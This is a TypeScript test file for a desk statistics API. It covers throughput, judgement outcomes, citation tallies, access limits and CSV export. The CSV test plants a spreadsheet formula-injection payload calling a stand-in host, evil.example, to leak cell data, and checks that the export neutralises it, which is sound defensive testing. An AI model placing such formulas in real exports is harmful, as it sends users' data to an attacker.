import { v7 } from 'uuid'
import type { DeskFigures } from '#core/contracts/http/figures'
import type { JudgementView } from '#core/contracts/http/judgements'
import type { Page } from '#core/contracts/http/common'
import type { EditorNode } from '#core/editor/json/editor-json'
import { firstMonday } from '#server/features/figures/figures.service'
import { makeArticle } from '#test/factories/article'
import { makeSource } from '#test/factories/source'
import { keepRevision, signedBriefing, writeBriefing } from '#test/factories/signed-briefing'
import { startHouse, type TestHouse } from '#test/support/test-house'

type PersonName = keyof TestHouse['people']
let house: TestHouse
beforeAll(async () => {
  house = await startHouse()
})
afterAll(() => house.stop())

const ask = <T = Record<string, unknown>>(person: PersonName, method: string, path: string, body?: unknown) =>
  house.request<T>(house.people[person], method, path, body === undefined ? {} : { body })
const figures = async (person: PersonName = 'analyst', query = '') =>
  (await ask<DeskFigures>(person, 'GET', `/api/desks/${house.desk.id}/figures${query}`)).body

const citing = (articleId: string, sourceTitle: string): EditorNode => ({
  type: 'paragraph',
  attrs: { id: v7() },
  content: [
    { type: 'text', text: 'Fees fell' },
    { type: 'citation', attrs: { id: v7(), articleId, sourceTitle, quote: 'fees' } },
  ],
})
const judgement = (id: string, likelihood: number): EditorNode => ({
  type: 'keyJudgement',
  attrs: { id, likelihood, row: 1, confidence: 'moderate' },
  content: [{ type: 'text', text: `Fees will fall again (${id})` }],
})

describe('the figures of a desk', () => {
  test('count what was begun, approved, published, corrected, and how long it took', async () => {
    const { briefing, revision } = await signedBriefing(house, {
      blocks: [judgement('kj-1', 5), judgement('kj-2', 5), judgement('kj-3', 7)],
    })
    await house.owner.query(
      `update briefing_stays set since = until - interval '4 hours' where briefing_id = $1 and until is not null`,
      [briefing.id],
    )
    await ask('manager', 'POST', `/api/revisions/${revision.id}/publications`, {})
    await writeBriefing(house, { title: 'Only begun' })
    const { throughput, states, judgements } = await figures()
    expect(throughput).toHaveLength(13)
    expect(throughput.at(-1)).toMatchObject({
      begun: 2,
      approved: 1,
      published: 1,
      corrected: 0,
      withdrawn: 0,
    })
    expect(throughput.at(-1)!.week).toBe(firstMonday(new Date(), 0).toISOString().slice(0, 10))
    const draft = states.find(({ state }) => state === 'draft')!
    expect([draft.stays, draft.now, Math.round(draft.medianHours!)]).toEqual([1, 1, 4])
    expect(states.find(({ state }) => state === 'published')).toMatchObject({ now: 1, stays: 0 })
    expect(judgements.filter(({ count }) => count > 0)).toEqual([
      { likelihood: 5, from: 55, to: 80, count: 2, decided: 0, cameTrue: 0 },
      { likelihood: 7, from: 95, to: 99, count: 1, decided: 0, cameTrue: 0 },
    ])

    const path = `/api/briefings/${briefing.id}/judgements`
    const listed = await ask<Page<JudgementView>>('analyst', 'GET', path)
    expect(listed.body.items.map(({ id, outcome }) => [id, outcome])).toEqual([
      ...[
        ['kj-1', null],
        ['kj-2', null],
        ['kj-3', null],
      ],
    ])
    const decided = await ask<JudgementView>('analyst', 'PUT', `${path}/kj-1/outcome`, {
      cameTrue: true,
      note: 'It did.',
    })
    expect(decided.body).toMatchObject({
      outcome: { cameTrue: true, note: 'It did.', by: { id: house.people.analyst.id } },
    })
    await ask('analyst', 'PUT', `${path}/kj-2/outcome`, { cameTrue: false })
    expect((await ask('analyst', 'PUT', `${path}/kj-9/outcome`, { cameTrue: true })).status).toBe(404)
    expect((await figures()).judgements[4]).toMatchObject({ decided: 2, cameTrue: 1 })
    await ask('analyst', 'PUT', `${path}/kj-2/outcome`, { cameTrue: null })
    expect((await figures()).judgements[4]).toMatchObject({ decided: 1, cameTrue: 1 })
  })

  test('say which sources and origins briefings stand on, reprints under who wrote first', async () => {
    const wire = await makeSource(house.owner, house.desk, { title: 'Harbour Wire' })
    const copy = await makeSource(house.owner, house.desk, { title: 'Copy Post' })
    const first = await makeArticle(house.owner, { ...wire, deskId: house.desk.id })
    const reprint = await makeArticle(house.owner, { ...copy, deskId: house.desk.id })
    await house.owner.query(
      'insert into article_origins (article_id, desk_id, origin_id) values ($1, $3, $1), ($2, $3, $1)',
      [first.id, reprint.id, house.desk.id],
    )
    const blocks = [
      citing(first.id, 'Harbour Wire'),
      citing(reprint.id, 'Copy Post'),
      citing(v7(), 'Gone Paper'),
    ]
    await keepRevision(house, await writeBriefing(house, { title: 'Cites', blocks }))
    await keepRevision(house, await writeBriefing(house, { title: 'Cites too', blocks: blocks.slice(0, 1) }))
    const { sources, origins } = await figures()
    expect(sources.map(({ title, citations, briefings }) => [title, citations, briefings])).toEqual([
      ['Harbour Wire', 2, 2],
      ['Copy Post', 1, 1],
      ['Gone Paper', 1, 1],
    ])
    expect(origins.map(({ name, citations }) => [name, citations])).toEqual([
      ['Harbour Wire', 3],
      ['Gone Paper', 1],
    ])
  })

  test('hold nothing of what is limited to others', async () => {
    const before = await figures('manager')
    const secret = await writeBriefing(house, {
      title: 'Secret',
      marking: 'RED',
      blocks: [citing(v7(), 'Secret Paper')],
    })
    await keepRevision(house, secret)
    expect(await figures('manager')).toMatchObject({ throughput: before.throughput, sources: before.sources })
    expect((await figures('analyst')).sources.map(({ title }) => title)).toContain('Secret Paper')
    expect((await ask('otherManager', 'GET', `/api/desks/${house.desk.id}/figures`)).status).toBe(404)
  })

  test('come as CSV in which nothing is a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example?"&A1,"open")'
    await keepRevision(house, await writeBriefing(house, { title: 'Evil', blocks: [citing(v7(), evil)] }))
    const path = `/api/desks/${house.desk.id}/figures?format=csv&table=sources&weeks=1`
    const { body, headers, status } = await ask<string>('analyst', 'GET', path)
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8'])
    expect(headers.get('content-disposition')).toBe('attachment; filename="sources.csv"')
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""open"")"`)
    expect(body).not.toMatch(/(^|,|\n)"?[=+\-@]/)
    const taken = await house.owner.query(`select 1 from audit_entries where action = 'figures.taken'`)
    expect(taken.rowCount).toBe(1)
    expect((await ask('analyst', 'GET', `/api/desks/${house.desk.id}/figures?weeks=99`)).status).toBe(422)
  })
})
